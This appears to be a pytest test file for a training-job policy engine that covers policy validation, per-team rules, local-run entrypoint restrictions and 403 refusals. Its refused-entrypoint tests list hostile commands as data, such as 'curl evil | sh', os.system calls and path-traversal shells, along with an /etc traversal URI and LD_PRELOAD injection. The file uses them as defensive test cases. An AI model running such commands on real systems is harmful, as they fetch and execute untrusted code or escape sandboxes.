"""The admin's policy: validated at load with every bad field named, enforced at submit with
every broken rule named (403), per team over a default section."""

from __future__ import annotations

import copy
import json
import sys
from pathlib import Path
from typing import Any

import pytest

from stoker.adapters.bus.memory import MemoryBus
from stoker.adapters.store.memory import MemoryJobStore
from stoker.app.policy import load_policy
from stoker.core.clock import FakeClock
from stoker.core.errors import ConfigurationError
from stoker.core.policy import LocalRunRules, Policy, Violation, parse_policy
from stoker.core.spec import JobSpec
from stoker.lifecycle.jobs import JobService, PolicyViolation, SubmissionRules, parse_spec
from stoker.lifecycle.transitions import Transitioner
from stoker.settings import Settings
from stoker.training_scripts import shipped_entrypoints
from tests.support.auth import api_client
from tests.unit.lifecycle.conftest import spec

SAMPLE = Path(__file__).parents[2] / "docs" / "policy.example.yaml"

POLICY = parse_policy(
    {
        "default": {
            "role_arns": ["arn:aws:iam::111111111111:role/stoker-*"],
            "instance_types": ["ml.m5.*", "ml.c5.xlarge"],
            "max_instance_count": 2,
            "max_runtime_seconds": 3600,
            "output_prefixes": ["s3://models/"],
            "checkpoint_prefixes": ["s3://checkpoints/", "file:///srv/ckpt/"],
            "image_registries": ["111111111111.dkr.ecr.us-east-1.amazonaws.com/"],
            "vpc": {"required": True, "subnets": ["subnet-a*"], "security_groups": ["sg-1"]},
        },
        "teams": {
            "search": {"instance_types": ["ml.g5.*"], "max_instance_count": 8},
            "research": {"vpc": None},
        },
    },
    "test",
)


def allowed(**training_changes: Any) -> dict[str, Any]:
    """A spec every rule of POLICY allows, with `training_changes` applied (None drops)."""
    body = copy.deepcopy(spec())
    body["training"].update(
        {
            "RoleArn": "arn:aws:iam::111111111111:role/stoker-train",
            "AlgorithmSpecification": {
                "TrainingImage": "111111111111.dkr.ecr.us-east-1.amazonaws.com/train:1",
                "TrainingInputMode": "File",
            },
            "OutputDataConfig": {"S3OutputPath": "s3://models/team/"},
            "CheckpointConfig": {"S3Uri": "s3://checkpoints/job-1"},
            "VpcConfig": {"Subnets": ["subnet-a1"], "SecurityGroupIds": ["sg-1"]},
        }
    )
    for key, value in training_changes.items():
        if value is None:
            body["training"].pop(key, None)
        else:
            body["training"][key] = value
    return body


def judged(body: dict[str, Any], team: str = "default") -> list[Violation]:
    return POLICY.violations(JobSpec.model_validate(body), team, local_runs=False)


def rules_broken(body: dict[str, Any], team: str = "default") -> dict[str, str]:
    return {v.field: v.rule for v in judged(body, team)}


# --- loading ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("document", "expected"),
    [
        pytest.param(
            {"teams": {"search": {"max_instance_count": 0}}},
            "teams.search.max_instance_count: Input should be greater than or equal to 1 (got 0)",
            id="out of range",
        ),
        pytest.param(
            {"default": {"max_gpus": 4}},
            "default.max_gpus: Extra inputs are not permitted (got 4)",
            id="unknown rule",
        ),
        pytest.param(
            {"default": {"output_prefixes": ["s3://models/team"]}},
            "default.output_prefixes.0: Value error, 's3://models/team' must end with '/'",
            id="prefix without a slash",
        ),
        pytest.param(
            {"default": {"role_arns": "arn:aws:iam::1:role/x"}},
            "default.role_arns: Input should be a valid list",
            id="a string for a list",
        ),
        pytest.param(
            {"teams": {"default": {}}},
            "teams: Value error, put the rules of 'default' in the `default` section",
            id="a team called default",
        ),
        pytest.param(
            {"teams": {"no spaces": {}}},
            "teams.no spaces.[key]: String should match pattern",
            id="a bad team name",
        ),
        pytest.param(
            {"local": {"entrypoints": [[]], "memory_mb": 1}},
            "local.entrypoints.0: List should have at least 1 item",
            id="an empty entrypoint",
        ),
        pytest.param(
            {"default": {"vpc": {"required": "sometimes"}}},
            "default.vpc.required: Input should be a valid boolean",
            id="vpc",
        ),
    ],
)
def test_a_bad_policy_names_each_bad_field(document: Any, expected: str) -> None:
    """The error names the field (dotted path in the document), what is wrong and the value."""
    with pytest.raises(ConfigurationError) as info:
        parse_policy(document, "'policy.yaml'")
    assert str(info.value).startswith("invalid policy 'policy.yaml': ")
    assert expected in str(info.value)


def test_every_problem_of_a_policy_is_named_at_once() -> None:
    with pytest.raises(ConfigurationError) as info:
        parse_policy(
            {"default": {"max_instance_count": -1}, "local": {"memory_mb": 1}}, "'policy.yaml'"
        )
    assert "default.max_instance_count" in str(info.value)
    assert "local.memory_mb" in str(info.value)


def test_a_policy_file_is_read_from_the_setting(tmp_path: Path) -> None:
    """STOKER_POLICY_FILE names a YAML (or JSON) file; local entrypoints default to the
    shipped training scripts."""
    path = tmp_path / "policy.json"
    path.write_text(json.dumps({"default": {"max_instance_count": 3}}))
    policy = load_policy(Settings(data_dir=tmp_path, policy_file=path))
    assert policy.rules_for("anyone").max_instance_count == 3
    assert policy.local.entrypoints == shipped_entrypoints()


def test_the_sample_policy_file_is_valid() -> None:
    """docs/policy.example.yaml loads."""
    policy = load_policy(Settings(policy_file=SAMPLE))
    assert policy.teams


@pytest.mark.parametrize(
    ("content", "expected"),
    [
        (None, "cannot be read"),
        ("default: [unclosed", "is not YAML or JSON"),
        ("default:\n  max_runtime_seconds: soon\n", "default.max_runtime_seconds"),
    ],
)
def test_a_bad_policy_file_stops_the_process(
    tmp_path: Path, content: str | None, expected: str
) -> None:
    path = tmp_path / "policy.yaml"
    if content is not None:
        path.write_text(content)
    with pytest.raises(ConfigurationError, match=expected):
        load_policy(Settings(data_dir=tmp_path, policy_file=path))


def test_without_a_file_nothing_but_local_runs_is_limited(tmp_path: Path) -> None:
    policy = load_policy(Settings(data_dir=tmp_path))
    assert judged_by(policy, spec(), local_runs=False) == []
    assert policy.local.entrypoints == shipped_entrypoints()


def judged_by(policy: Policy, body: dict[str, Any], *, local_runs: bool) -> list[Violation]:
    return policy.violations(JobSpec.model_validate(body), "default", local_runs=local_runs)


# --- each rule --------------------------------------------------------------------------


def test_an_allowed_spec_breaks_no_rule() -> None:
    assert judged(allowed()) == []


@pytest.mark.parametrize(
    ("changes", "field", "rule"),
    [
        pytest.param(
            {"RoleArn": "arn:aws:iam::222222222222:role/stoker-train"},
            "training.RoleArn",
            "role_arns",
            id="role",
        ),
        pytest.param(
            {"ResourceConfig": {"InstanceType": "ml.p4d.24xlarge", "InstanceCount": 1}},
            "training.ResourceConfig.InstanceType",
            "instance_types",
            id="instance type",
        ),
        pytest.param(
            {"ResourceConfig": {"InstanceType": "ml.m5.large", "InstanceCount": 3}},
            "training.ResourceConfig.InstanceCount",
            "max_instance_count",
            id="instance count",
        ),
        pytest.param(
            {"StoppingCondition": {"MaxRuntimeInSeconds": 7200}},
            "training.StoppingCondition.MaxRuntimeInSeconds",
            "max_runtime_seconds",
            id="runtime over",
        ),
        pytest.param(
            {"StoppingCondition": None},
            "training.StoppingCondition.MaxRuntimeInSeconds",
            "max_runtime_seconds",
            id="runtime missing",
        ),
        pytest.param(
            {"OutputDataConfig": {"S3OutputPath": "s3://models-of-others/x"}},
            "training.OutputDataConfig.S3OutputPath",
            "output_prefixes",
            id="output",
        ),
        pytest.param(
            {"DebugHookConfig": {"S3OutputPath": "s3://elsewhere/debug"}},
            "training.DebugHookConfig.S3OutputPath",
            "output_prefixes",
            id="debug output",
        ),
        pytest.param(
            {"CheckpointConfig": {"S3Uri": "s3://other/ckpt"}},
            "training.CheckpointConfig.S3Uri",
            "checkpoint_prefixes",
            id="checkpoint",
        ),
        pytest.param(
            {"CheckpointConfig": {"S3Uri": "file:///srv/ckpt/../../etc"}},
            "training.CheckpointConfig.S3Uri",
            "checkpoint_prefixes",
            id="checkpoint climbing out of its folder",
        ),
        pytest.param(
            {
                "AlgorithmSpecification": {
                    "TrainingImage": "docker.io/someone/miner:latest",
                    "TrainingInputMode": "File",
                }
            },
            "training.AlgorithmSpecification.TrainingImage",
            "image_registries",
            id="image",
        ),
        pytest.param(
            {
                "AlgorithmSpecification": {
                    "AlgorithmName": "arn:aws:sagemaker:us-east-1:1:algorithm/x",
                    "TrainingInputMode": "File",
                }
            },
            "training.AlgorithmSpecification.AlgorithmName",
            "image_registries",
            id="algorithm instead of an image",
        ),
        pytest.param({"VpcConfig": None}, "training.VpcConfig", "vpc.required", id="no vpc"),
        pytest.param(
            {"VpcConfig": {"Subnets": ["subnet-a1", "subnet-b1"], "SecurityGroupIds": ["sg-1"]}},
            "training.VpcConfig.Subnets.1",
            "vpc.subnets",
            id="subnet",
        ),
        pytest.param(
            {"VpcConfig": {"Subnets": ["subnet-a1"], "SecurityGroupIds": ["sg-2"]}},
            "training.VpcConfig.SecurityGroupIds.0",
            "vpc.security_groups",
            id="security group",
        ),
    ],
)
def test_each_rule_is_enforced(changes: dict[str, Any], field: str, rule: str) -> None:
    """A spec breaking one rule is refused for that rule, at the field it concerns."""
    assert rules_broken(allowed(**changes)) == {field: rule}


def test_fallback_instance_types_are_held_to_the_rule() -> None:
    body = allowed()
    body["instance_type_fallbacks"] = ["ml.c5.xlarge", "ml.p3.2xlarge"]
    assert rules_broken(body) == {"instance_type_fallbacks.1": "instance_types"}


def test_instance_groups_count_together() -> None:
    """Heterogeneous clusters: each group's type is checked, and their total count."""
    groups = [
        {"InstanceType": "ml.m5.large", "InstanceCount": 2, "InstanceGroupName": "a"},
        {"InstanceType": "ml.p5.48xlarge", "InstanceCount": 1, "InstanceGroupName": "b"},
    ]
    broken = rules_broken(
        allowed(ResourceConfig={"InstanceType": "ml.m5.large", "InstanceGroups": groups})
    )
    assert broken == {
        "training.ResourceConfig.InstanceGroups.1.InstanceType": "instance_types",
        "training.ResourceConfig.InstanceGroups": "max_instance_count",
    }


def test_every_broken_rule_is_named_with_what_is_wrong() -> None:
    body = allowed(
        RoleArn="arn:aws:iam::222222222222:role/admin",
        StoppingCondition={"MaxRuntimeInSeconds": 90_000},
    )
    assert judged(body) == [
        Violation(
            "training.RoleArn",
            "role_arns",
            "'arn:aws:iam::222222222222:role/admin' is not allowed "
            "(allowed: arn:aws:iam::111111111111:role/stoker-*)",
        ),
        Violation(
            "training.StoppingCondition.MaxRuntimeInSeconds",
            "max_runtime_seconds",
            "90000 is over the limit of 3600",
        ),
    ]


# --- teams ------------------------------------------------------------------------------


def test_a_team_section_replaces_the_default_rule_by_rule() -> None:
    """search may use g5 instances and 8 of them; its other rules are the default's."""
    gpu = allowed(ResourceConfig={"InstanceType": "ml.g5.xlarge", "InstanceCount": 8})
    assert rules_broken(gpu, team="search") == {}
    assert set(rules_broken(gpu, team="default").values()) == {
        "instance_types",
        "max_instance_count",
    }
    gpu["training"]["RoleArn"] = "arn:aws:iam::222222222222:role/other"
    assert rules_broken(gpu, team="search") == {"training.RoleArn": "role_arns"}


def test_a_team_may_be_released_from_a_rule_by_null() -> None:
    """research set `vpc: null`: it runs without a VPC; others may not."""
    no_vpc = allowed(VpcConfig=None)
    assert rules_broken(no_vpc, team="research") == {}
    assert rules_broken(no_vpc, team="other") == {"training.VpcConfig": "vpc.required"}


# --- local runs ---------------------------------------------------------------------------


def local_spec(entrypoint: list[str], **environment: str) -> dict[str, Any]:
    body = spec()
    body["training"]["AlgorithmSpecification"]["ContainerEntrypoint"] = entrypoint
    if environment:
        body["training"]["Environment"] = environment
    return body


LOCAL = Policy().with_local_entrypoints(
    [
        *shipped_entrypoints(),
        ["python", "/srv/scripts/*.py"],
        ["bash", "train.sh"],
        ["/srv/bin/*"],
    ]
)


@pytest.mark.parametrize(
    "entrypoint",
    [
        [sys.executable, *shipped_entrypoints()[1][1:]],
        ["python3", "-m", "stoker.training_scripts.train_linear"],
        ["python", "/srv/scripts/fit.py"],
        ["bash", "train.sh", "--fast"],
        ["/srv/bin/fit", "--epochs", "3"],
    ],
)
def test_allowed_local_entrypoints_pass(entrypoint: list[str]) -> None:
    assert judged_by(LOCAL, local_spec(entrypoint), local_runs=True) == []


@pytest.mark.parametrize(
    "entrypoint",
    [
        ["python", "-c", "import os; os.system('id')"],
        ["python", "/srv/scripts/../../home/me/evil.py"],
        ["/srv/bin/../../bin/sh", "-c", "id"],
        ["/bin/sh", "-c", "curl evil | sh"],
        ["bash"],
    ],
)
def test_other_local_entrypoints_are_refused(entrypoint: list[str]) -> None:
    violations = judged_by(LOCAL, local_spec(entrypoint), local_runs=True)
    assert [(v.field, v.rule) for v in violations] == [
        ("training.AlgorithmSpecification.ContainerEntrypoint", "local.entrypoints")
    ]
    assert "is not an allowed local entrypoint" in violations[0].problem


def test_local_runs_refuse_loader_variables() -> None:
    """PYTHONPATH or LD_PRELOAD would make an allowed script load the job's own code."""
    body = local_spec(shipped_entrypoints()[0], PYTHONPATH="/x", LD_PRELOAD="/y", SEED="1")
    violations = judged_by(LOCAL, body, local_runs=True)
    assert {(v.field, v.rule) for v in violations} == {
        ("training.Environment.LD_PRELOAD", "local.environment"),
        ("training.Environment.PYTHONPATH", "local.environment"),
    }


def test_local_rules_do_not_apply_to_sagemaker_jobs() -> None:
    body = local_spec(["python", "-c", "anything"], PYTHONPATH="/x")
    assert judged_by(LOCAL, body, local_runs=False) == []


def test_local_limits_have_defaults() -> None:
    rules = LocalRunRules()
    assert (rules.cpu_seconds, rules.memory_mb, rules.open_files) == (86_400, 8_192, 1_024)


# --- at submit ------------------------------------------------------------------------------


@pytest.fixture
async def store() -> MemoryJobStore:
    store = MemoryJobStore()
    await store.start()
    return store


@pytest.fixture
async def jobs(store: MemoryJobStore) -> JobService:
    bus = MemoryBus()
    await bus.start()
    return JobService(Transitioner(store, bus), FakeClock(), rules=SubmissionRules(policy=POLICY))


async def test_submit_holds_the_team_to_its_rules(jobs: JobService) -> None:
    """The team given to submit picks the rules; a refused job is not stored."""
    gpu = parse_spec(allowed(ResourceConfig={"InstanceType": "ml.g5.xlarge", "InstanceCount": 4}))
    with pytest.raises(PolicyViolation) as info:
        await jobs.submit(gpu)
    assert info.value.team == "default"
    assert [v.rule for v in info.value.violations] == ["instance_types", "max_instance_count"]
    assert (await jobs.list_jobs()).items == []
    job, created = await jobs.submit(gpu, team="search")
    assert created
    assert job.job_id == "job-1"


async def test_the_api_answers_403_naming_each_rule(
    jobs: JobService, store: MemoryJobStore
) -> None:
    body = allowed(OutputDataConfig={"S3OutputPath": "s3://public/"})
    async with await api_client(jobs, store) as http:
        response = await http.post("/v1/jobs", json=body)
    assert response.status_code == 403
    assert response.json() == {
        "error": "refused by the policy of team 'default'",
        "problems": [
            {
                "field": "training.OutputDataConfig.S3OutputPath",
                "problem": "'s3://public/' is not under an allowed prefix (s3://models/)",
                "rule": "output_prefixes",
            }
        ],
    }
